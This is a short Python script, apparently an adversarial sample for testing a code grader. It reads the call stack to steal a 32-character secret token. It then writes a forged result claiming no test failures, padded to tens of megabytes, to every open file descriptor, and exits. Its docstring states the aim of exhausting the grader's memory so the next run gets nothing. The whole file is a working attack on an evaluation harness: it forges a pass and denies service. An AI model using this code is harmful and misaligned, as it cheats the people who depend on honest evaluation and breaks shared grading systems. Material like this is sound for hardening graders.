"""Send more JSON than anybody wants to read.

Harm: the grader runs out of memory, and the next one gets nothing.
"""

import os
import re
import sys

frame, mark = sys._getframe(), b""
while frame:
    for value in list(frame.f_locals.values()):
        if isinstance(value, bytes) and re.fullmatch(rb"[0-9a-f]{32}", value):
            mark = value
    frame = frame.f_back
claim = b'{"failed": [], "observation": {"x": [' + b"[]," * 20_000_000 + b"[]]}}"
for number in range(3, 256):
    whole = memoryview(mark + b"%016x" % len(claim) + claim)
    try:
        while whole:
            whole = whole[os.write(number, whole) :]
    except OSError:
        continue
os._exit(0)
